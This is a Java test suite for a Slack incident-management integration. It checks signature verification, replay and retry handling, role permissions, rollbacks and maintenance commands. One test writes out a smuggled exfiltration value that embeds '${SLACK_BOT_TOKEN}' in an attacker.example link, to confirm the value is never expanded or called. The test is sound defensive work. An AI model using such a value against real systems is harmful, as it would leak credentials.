package dev.firebreak.starter.slack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.slack.api.app_backend.SlackSignature;
import dev.firebreak.workflows.action.HttpAction;
import dev.firebreak.workflows.incident.IncidentStatus;
import dev.firebreak.workflows.notify.IncidentActions;
import dev.firebreak.workflows.notify.IncidentRoomName;
import dev.firebreak.workflows.rollback.RollbackOrders;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SlackEndpointsTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final Pattern DECLARED = Pattern.compile("declared \\*(INC-\\d{8}-\\d+)\\*");
  private static final String NOWHERE = "http://127.0.0.1:9/commands/T0FAKE/unused";

  @RegisterExtension final RunningSlack slack = new RunningSlack();

  @Test
  void aSignedDeclarationStartsTheIncidentAndTellsTheChannel() throws IOException {
    HttpResponse<String> response =
        command("declare P1 recoup-backend Checkout returns 500", "U0ALICE");

    assertThat(response.statusCode()).isEqualTo(200);
    JsonNode answer = JSON.readTree(response.body());
    assertThat(answer.get("response_type").asText()).isEqualTo("in_channel");
    assertThat(answer.get("text").asText())
        .contains("<@U0ALICE> declared")
        .contains("P1 · recoup-backend: Checkout returns 500");
    String id = idIn(answer);
    assertThat(state(id).declaredBy()).isEqualTo("U0ALICE");
    assertThat(state(id).title()).isEqualTo("Checkout returns 500");
  }

  @Test
  void forgedUnsignedStaleAndReplayedRequestsGet401AndStartNothing() {
    String body =
        slack.requests.commandBody(
            "declare P1 recoup-backend Forged", "U0MALLORY", "general", NOWHERE);
    long now = Instant.now().getEpochSecond();
    SlackRequests wrongSecret =
        new SlackRequests("http://127.0.0.1:" + slack.server.port(), "not-the-secret");

    HttpResponse<String> forged = wrongSecret.sendSigned(SlackEndpoints.COMMANDS, body);
    HttpResponse<String> unsigned = slack.requests.send(SlackEndpoints.COMMANDS, body, Map.of());
    HttpResponse<String> noSignature =
        slack.requests.send(
            SlackEndpoints.COMMANDS,
            body,
            Map.of(SlackSignature.HeaderNames.X_SLACK_REQUEST_TIMESTAMP, Long.toString(now)));
    long sixMinutesAgo = now - 360;
    HttpResponse<String> stale =
        slack.requests.send(SlackEndpoints.COMMANDS, body, signedAt(sixMinutesAgo, body));
    // A captured request replayed later: the body and signature are Slack's, the timestamp is new.
    Map<String, String> captured = signedAt(now - 10, body);
    HttpResponse<String> replayed =
        slack.requests.send(
            SlackEndpoints.COMMANDS,
            body,
            Map.of(
                SlackSignature.HeaderNames.X_SLACK_REQUEST_TIMESTAMP, Long.toString(now),
                SlackSignature.HeaderNames.X_SLACK_SIGNATURE,
                    captured.get(SlackSignature.HeaderNames.X_SLACK_SIGNATURE)));
    HttpResponse<String> garbage =
        wrongSecret.sendSigned(SlackEndpoints.INTERACTIONS, "payload=%7Bnot-json");

    assertThat(java.util.List.of(forged, unsigned, noSignature, stale, replayed, garbage))
        .allSatisfy(r -> assertThat(r.statusCode()).as(r.body()).isEqualTo(401));
    assertThat(
            slack
                .api
                .temporal
                .getWorkflowClient()
                .getWorkflowServiceStubs()
                .blockingStub()
                .listOpenWorkflowExecutions(
                    io.temporal.api.workflowservice.v1.ListOpenWorkflowExecutionsRequest
                        .newBuilder()
                        .setNamespace("default")
                        .build())
                .getExecutionsCount())
        .isZero();
  }

  @Test
  void aSignedRequestReplayedWithinFiveMinutesIsAcknowledgedButDeclaresOnce() {
    String body =
        slack.requests.commandBody(
            "declare P1 recoup-backend Checkout returns 500", "U0ALICE", "general", NOWHERE);
    Map<String, String> signed = signedAt(Instant.now().getEpochSecond(), body);

    HttpResponse<String> first = slack.requests.send(SlackEndpoints.COMMANDS, body, signed);
    HttpResponse<String> replayed = slack.requests.send(SlackEndpoints.COMMANDS, body, signed);

    assertThat(first.statusCode()).isEqualTo(200);
    assertThat(first.body()).contains("declared");
    assertThat(replayed.statusCode()).isEqualTo(200);
    assertThat(replayed.body()).isEmpty();
    assertThat(openWorkflows()).isEqualTo(1);
  }

  @Test
  void slacksRetryOfAHandledRequestIsAcknowledgedWithoutRunningAgainButARetryOfAnUnseenOneRuns() {
    String body =
        slack.requests.commandBody(
            "declare P1 recoup-backend Checkout returns 500", "U0ALICE", "general", NOWHERE);
    String unseen =
        slack.requests.commandBody(
            "declare P2 recoup-backend Slow search", "U0ALICE", "general", NOWHERE);
    long now = Instant.now().getEpochSecond();

    HttpResponse<String> first =
        slack.requests.send(SlackEndpoints.COMMANDS, body, signedAt(now - 4, body));
    HttpResponse<String> retry =
        slack.requests.send(SlackEndpoints.COMMANDS, body, retry(now, body, "1"));
    HttpResponse<String> retryOfUnseen =
        slack.requests.send(SlackEndpoints.COMMANDS, unseen, retry(now, unseen, "2"));

    assertThat(first.body()).contains("declared");
    assertThat(retry.statusCode()).isEqualTo(200);
    assertThat(retry.body()).isEmpty();
    assertThat(retryOfUnseen.body()).contains("declared");
    assertThat(openWorkflows()).isEqualTo(2);
  }

  @ParameterizedTest(name = "timestamp {0}")
  @ValueSource(strings = {"+360", "+86400", "9223372036854776", "-9223372036854775", "soon"})
  void aRequestWhoseTimestampIsNotWithinFiveMinutesOfNowIsRefused(String timestamp) {
    String body =
        slack.requests.commandBody(
            "declare P1 recoup-backend From the future", "U0ALICE", "general", NOWHERE);
    String at =
        timestamp.startsWith("+")
            ? Long.toString(Instant.now().getEpochSecond() + Long.parseLong(timestamp.substring(1)))
            : timestamp;

    HttpResponse<String> refused =
        slack.requests.send(
            SlackEndpoints.COMMANDS,
            body,
            Map.of(
                SlackSignature.HeaderNames.X_SLACK_REQUEST_TIMESTAMP,
                at,
                SlackSignature.HeaderNames.X_SLACK_SIGNATURE,
                new SlackSignature.Generator(RunningSlack.SECRET).generate(at, body)));

    assertThat(refused.statusCode()).as(refused.body()).isEqualTo(401);
    assertThat(openWorkflows()).isZero();
  }

  private Map<String, String> retry(long timestamp, String body, String number) {
    return Map.of(
        SlackSignature.HeaderNames.X_SLACK_REQUEST_TIMESTAMP,
        Long.toString(timestamp),
        SlackSignature.HeaderNames.X_SLACK_SIGNATURE,
        slack.requests.sign(timestamp, body),
        "X-Slack-Retry-Num",
        number,
        "X-Slack-Retry-Reason",
        "http_timeout");
  }

  private int openWorkflows() {
    return slack
        .api
        .temporal
        .getWorkflowClient()
        .getWorkflowServiceStubs()
        .blockingStub()
        .listOpenWorkflowExecutions(
            io.temporal.api.workflowservice.v1.ListOpenWorkflowExecutionsRequest.newBuilder()
                .setNamespace("default")
                .build())
        .getExecutionsCount();
  }

  @Test
  void aSecondAcknowledgementIsRefusedWithWhoTookIt() throws IOException {
    String id =
        idIn(JSON.readTree(command("declare P2 recoup-backend Slow pages", "U0ALICE").body()));

    JsonNode first = JSON.readTree(command("ack " + id, "U0ALICE").body());
    JsonNode second = JSON.readTree(command("ack " + id.toLowerCase(), "U0BOB").body());

    assertThat(first.get("text").asText())
        .isEqualTo("✅ You acknowledged *" + id + "*; escalation stopped.");
    assertThat(second.get("response_type").asText()).isEqualTo("ephemeral");
    assertThat(second.get("text").asText()).contains("already acknowledged by <@U0ALICE>");
    assertThat(state(id).acknowledgedBy()).isEqualTo("U0ALICE");
  }

  @Test
  void insideAnIncidentChannelTheIncidentIsImplied() throws IOException {
    String id =
        idIn(JSON.readTree(command("declare P2 recoup-backend Slow pages", "U0ALICE").body()));
    String channel = IncidentRoomName.of(id, "Slow pages");

    slack.requests.command(
        "update Webhook secret mismatch eta 10 min", "U0ALICE", channel, NOWHERE);
    slack.requests.command("commander <@U0CAROL|carol>", "U0ALICE", channel, NOWHERE);
    JsonNode status =
        JSON.readTree(slack.requests.command("status", "U0ALICE", channel, NOWHERE).body());
    JsonNode resolved =
        JSON.readTree(
            slack.requests.command("resolve Secret rotated", "U0ALICE", channel, NOWHERE).body());

    assertThat(status.get("text").asText())
        .contains("*" + id + "* · P2 · recoup-backend")
        .contains("Commander: <@U0CAROL>")
        .contains("Latest update: Webhook secret mismatch\nETA: 10 min");
    assertThat(resolved.get("text").asText()).isEqualTo("✅ *" + id + "* resolved; now monitoring.");
    assertThat(state(id).status()).isIn(IncidentStatus.MONITORING, IncidentStatus.POST_MORTEM);
  }

  @Test
  void rollbackIsForTheRolesTheServiceGrantsAndASecondRequestFindsTheFirstRollback()
      throws IOException {
    slack.api.diagnostics.deployments = RollbackOrders.DEPLOYS;
    String id =
        idIn(JSON.readTree(command("declare P1 recoup-backend Checkout 500s", "U0ALICE").body()));

    String refused =
        JSON.readTree(command("rollback " + id, "U0ALICE").body()).get("text").asText();
    JsonNode first = JSON.readTree(command("rollback " + id, "U0ADMIN").body());
    JsonNode second = JSON.readTree(command("rollback " + id, "U0ADMIN").body());

    assertThat(refused).contains("needs one of the roles admin, which <@U0ALICE> does not have");
    String rollback = "recoup-backend-" + id.toLowerCase() + "-slack-previous";
    assertThat(first.get("response_type").asText()).isEqualTo("in_channel");
    assertThat(first.get("text").asText())
        .isEqualTo(
            "⏪ <@U0ADMIN> started rollback `"
                + rollback
                + "` for *"
                + id
                + "*; its result follows in the incident's thread.");
    assertThat(second.get("text").asText())
        .startsWith("⏪ Rollback `" + rollback + "` for *" + id + "* was already requested");
    await()
        .atMost(Duration.ofSeconds(10))
        .untilAsserted(
            () ->
                assertThat(state(id).timeline())
                    .anyMatch(entry -> "rollback".equals(entry.kind())));
  }

  @Test
  void aRollbackNeedingApprovalIsDecidedBySomeoneElseWithTheApproveButton() throws IOException {
    slack.api.diagnostics.deployments = RollbackOrders.DEPLOYS;
    String id =
        idIn(JSON.readTree(command("declare P1 talk-to-my-lawyer Blank page", "U0ALICE").body()));
    String requested =
        JSON.readTree(command("rollback " + id, "U0ALICE").body()).get("text").asText();
    String rollback = "talk-to-my-lawyer-" + id.toLowerCase() + "-slack-previous";
    assertThat(requested).contains("started rollback `" + rollback + "`");
    await()
        .atMost(Duration.ofSeconds(10))
        .until(() -> rollbackStatus(rollback).equals("AWAITING_APPROVAL"));

    try (ResponseUrlCatcher answers = new ResponseUrlCatcher()) {
      slack.requests.click(IncidentActions.APPROVE_ROLLBACK, rollback, "U0ALICE", answers.url());
      await().atMost(Duration.ofSeconds(10)).until(() -> answers.texts().size() == 1);
      slack.requests.click(IncidentActions.APPROVE_ROLLBACK, rollback, "U0BOB", answers.url());
      await().atMost(Duration.ofSeconds(10)).until(() -> answers.texts().size() == 2);

      assertThat(answers.texts().get(0))
          .startsWith("Could not approve rollback `" + rollback + "`")
          .contains("requested this rollback and cannot approve it");
      assertThat(answers.texts().get(1))
          .isEqualTo("✅ <@U0BOB> approved rollback `" + rollback + "`; it runs now.");
    }
    await()
        .atMost(Duration.ofSeconds(10))
        .until(() -> rollbackStatus(rollback).equals("SUCCEEDED"));
  }

  private String rollbackStatus(String rollback) {
    return slack
        .api
        .temporal
        .getWorkflowClient()
        .newWorkflowStub(
            dev.firebreak.workflows.rollback.RollbackWorkflow.class, "rollback-" + rollback)
        .state()
        .status()
        .name();
  }

  @Test
  void maintenanceIsScheduledListedAndAbortedFromSlackWithTheApisChecks() throws IOException {
    JsonNode scheduled = maintenance("schedule recoup-backend +1h 2h Database upgrade", "U0ALICE");
    assertThat(scheduled.get("response_type").asText()).isEqualTo("in_channel");
    Matcher id =
        Pattern.compile("scheduled maintenance \\*(MW-\\d{8}-\\d+)\\*")
            .matcher(scheduled.get("text").asText());
    assertThat(id.find()).as(scheduled.toString()).isTrue();

    assertThat(text(maintenance("list", "U0VIEWER")))
        .contains("*" + id.group(1) + "*")
        .contains("Database upgrade");
    assertThat(text(maintenance("status " + id.group(1).toLowerCase(), "U0VIEWER")))
        .contains("SCHEDULED");
    assertThat(text(maintenance("abort " + id.group(1), "U0VIEWER")))
        .contains("needs the responder role");
    assertThat(text(maintenance("abort " + id.group(1) + " vendor outage", "U0ALICE")))
        .contains("aborted");
    assertThat(text(maintenance("schedule nowhere +1h 2h Upgrade", "U0ALICE")))
        .contains("No service named 'nowhere'");
    assertThat(text(maintenance("schedule recoup-backend soon 2h Upgrade", "U0ALICE")))
        .contains("Could not read the start");
    assertThat(text(maintenance("reboot everything", "U0ALICE")))
        .contains("There is no `/maintenance reboot`")
        .contains("/maintenance schedule");
  }

  @Test
  void maintenanceDuringAP1AsksForConfirmationFirst() throws IOException {
    String incident =
        idIn(JSON.readTree(command("declare P1 recoup-backend Checkout down", "U0ALICE").body()));

    String refused =
        text(maintenance("schedule recoup-backend +1h 2h Database upgrade", "U0ALICE"));
    JsonNode confirmed =
        maintenance("schedule recoup-backend +1h 2h Database upgrade confirm", "U0ALICE");

    assertThat(refused)
        .contains("P1 " + incident + " is open")
        .contains("add `confirm` at the end");
    assertThat(text(confirmed)).contains("scheduled maintenance");
  }

  @Test
  void slackAddsStepsTheConfigDefinesByNameAndItsTextIsNeverExpanded() throws IOException {
    JsonNode scheduled =
        maintenance(
            "schedule recoup-backend now 1h Purge <http://attacker.example/?t=${SLACK_BOT_TOKEN}|ok> "
                + "steps=purge-cdn",
            "U0ALICE");
    Matcher id =
        Pattern.compile("scheduled maintenance \\*(MW-\\d{8}-\\d+)\\*").matcher(text(scheduled));
    assertThat(id.find()).as(scheduled.toString()).isTrue();
    String unknown =
        text(
            maintenance(
                "schedule recoup-backend +1h 1h Steal steps=http://attacker.example/", "U0ALICE"));

    await()
        .atMost(Duration.ofSeconds(20))
        .until(() -> slack.api.actions.performed.contains("purge-cdn"));
    HttpAction purge =
        slack.api.actions.received.stream()
            .filter(a -> a.name().equals("purge-cdn"))
            .findFirst()
            .orElseThrow();
    assertThat(purge.fromConfig()).isTrue();
    assertThat(purge.url()).isEqualTo("http://127.0.0.1:9/purge");
    assertThat(slack.api.actions.received)
        .allSatisfy(a -> assertThat(a.url()).doesNotContain("attacker"));
    assertThat(unknown)
        .contains("names no step of the config ('http://attacker.example/'); known: purge-cdn");
  }

  private JsonNode maintenance(String text, String user) throws IOException {
    return JSON.readTree(slack.requests.maintenance(text, user, NOWHERE).body());
  }

  private static String text(JsonNode answer) {
    return answer.get("text").asText();
  }

  @Test
  void aViewerMayLookButNotResolveAndIsToldWhy() throws IOException {
    String id =
        idIn(JSON.readTree(command("declare P2 recoup-backend Slow pages", "U0ALICE").body()));

    JsonNode status = JSON.readTree(command("status " + id, "U0VIEWER").body());
    JsonNode refused = JSON.readTree(command("resolve " + id, "U0VIEWER").body());

    assertThat(status.get("text").asText()).contains(id);
    assertThat(refused.get("text").asText())
        .isEqualTo(
            "`/incident resolve` needs the responder role, and you are a viewer in Firebreak. "
                + "Ask an admin to list you under `providers.slack.users`.");
    assertThat(state(id).status()).isEqualTo(IncidentStatus.DECLARED);
  }

  @Test
  void mistakesGetAShortAnswerWithTheRightUsageNeverAnError() throws IOException {
    Map<String, String> expected =
        Map.of(
            "deploy now", "I don't know 'deploy'.",
            "declare P1 no-such-service Broken",
                "No service named 'no-such-service'; known: recoup-backend, talk-to-my-lawyer.\n"
                    + "Usage: `/incident declare <P0-P4> <service> <title>`",
            "declare P7 recoup-backend Broken",
                "'P7' is not a severity (P0 to P4).\nUsage: `/incident declare <P0-P4> <service> <title>`",
            "ack",
                "Which incident? Give its id, or run this in the incident's channel.\n`/incident ack [id]`",
            "ack INC-20200101-9", "Could not ack *INC-20200101-9*: No incident 'INC-20200101-9'",
            "severity INC-20200101-9",
                "Give exactly one severity (P0 to P4).\nUsage: `/incident severity [id] <P0-P4>`");

    expected.forEach(
        (text, answer) -> {
          HttpResponse<String> response = command(text, "U0ALICE");
          assertThat(response.statusCode()).as(text).isEqualTo(200);
          assertThat(response.body()).as(text).doesNotContain("Exception");
          try {
            assertThat(JSON.readTree(response.body()).get("text").asText())
                .as(text)
                .startsWith(answer);
          } catch (IOException e) {
            throw new AssertionError(e);
          }
        });
  }

  @Test
  void aPlaybookIsAttachedByNameAndAnUnknownNameListsTheKnownOnes() throws IOException {
    String id =
        idIn(JSON.readTree(command("declare P2 recoup-backend Checkout errors", "U0ALICE").body()));

    JsonNode attached = JSON.readTree(command("playbook " + id + " payments", "U0ALICE").body());
    JsonNode unknown = JSON.readTree(command("playbook " + id + " nope", "U0ALICE").body());
    JsonNode viewer = JSON.readTree(command("playbook " + id + " site-down", "U0VIEWER").body());

    assertThat(attached.get("text").asText())
        .isEqualTo("📖 *" + id + "* follows the playbook *Payment processing broken*.");
    assertThat(unknown.get("text").asText())
        .isEqualTo("There is no playbook `nope`; known: site-down, payments.");
    assertThat(viewer.get("text").asText()).contains("needs the responder role");
    assertThat(state(id).playbook().name()).isEqualTo("payments");
    assertThat(JSON.readTree(command("status " + id, "U0VIEWER").body()).get("text").asText())
        .contains("Playbook: *Payment processing broken* · checklist 0/1 done");
    assertThat(state(id).playbook().attachedBy()).isEqualTo("U0ALICE");
  }

  @Test
  void helpListsEveryVerbAndListShowsOpenIncidents() throws IOException {
    String id =
        idIn(
            JSON.readTree(
                command("declare P3 talk-to-my-lawyer Login <!channel> broken", "U0ALICE").body()));

    String help = JSON.readTree(command("help", "U0VIEWER").body()).get("text").asText();
    String list = JSON.readTree(command("list", "U0VIEWER").body()).get("text").asText();

    for (SlashVerb verb : SlashVerb.values()) {
      assertThat(help).contains(verb.usageLine());
    }
    assertThat(list)
        .contains("*" + id + "* · P3 · talk-to-my-lawyer")
        .contains("Login &lt;!channel&gt; broken");
  }

  private HttpResponse<String> command(String text, String user) {
    return slack.requests.command(text, user, "general", NOWHERE);
  }

  private Map<String, String> signedAt(long timestamp, String body) {
    return Map.of(
        SlackSignature.HeaderNames.X_SLACK_REQUEST_TIMESTAMP, Long.toString(timestamp),
        SlackSignature.HeaderNames.X_SLACK_SIGNATURE, slack.requests.sign(timestamp, body));
  }

  private dev.firebreak.workflows.incident.IncidentView state(String id) {
    return slack.incident(id);
  }

  private static String idIn(JsonNode answer) {
    Matcher matcher = DECLARED.matcher(answer.get("text").asText());
    assertThat(matcher.find()).as(answer.toString()).isTrue();
    return matcher.group(1);
  }
}
